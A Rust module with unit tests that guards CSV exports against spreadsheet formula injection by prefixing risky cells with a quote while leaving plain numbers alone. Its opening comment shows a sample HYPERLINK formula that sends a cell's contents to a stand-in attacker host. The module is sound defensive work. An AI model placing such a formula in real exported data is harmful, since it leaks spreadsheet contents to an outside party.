//! CSV cells a spreadsheet would run as a formula. A subject such as
//! `=HYPERLINK("http://evil.example/?"&A1)` is text to us and code to Excel or
//! LibreOffice, so CSV output neutralises it the way OWASP's CSV injection guidance
//! says: a leading `'`, which spreadsheets take as "this cell is text".

use std::borrow::Cow;

/// The cell with a `'` in front when a spreadsheet would read it as a formula:
/// it starts with `=`, `+`, `-`, `@`, a tab or a carriage return. A plain number
/// (`-5`, `+3.25`) is left alone: spreadsheets read it as that number, never as a
/// formula, and a quote would turn a custom number field into text that no sum counts.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let starts_formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if starts_formula && !is_plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// An optional sign, digits, and optionally a point and more digits.
fn is_plain_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let (whole, fraction) = unsigned.split_once('.').unwrap_or((unsigned, "0"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(fraction)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_starts_get_a_quote() {
        for cell in ["=1+1", "+1 555 0100", "-2+3", "@SUM(A1)", "\tx", "\rx", "-"] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn numbers_and_ordinary_text_stay_as_they_are() {
        for cell in [
            "-5",
            "+3.25",
            "-0.5",
            "42",
            "Printer out of toner",
            "",
            "a=b",
            " =1",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_sign_or_point_alone_is_not_a_number() {
        for cell in ["-.5", "-5.", "+", "-1e5", "-inf"] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }
}
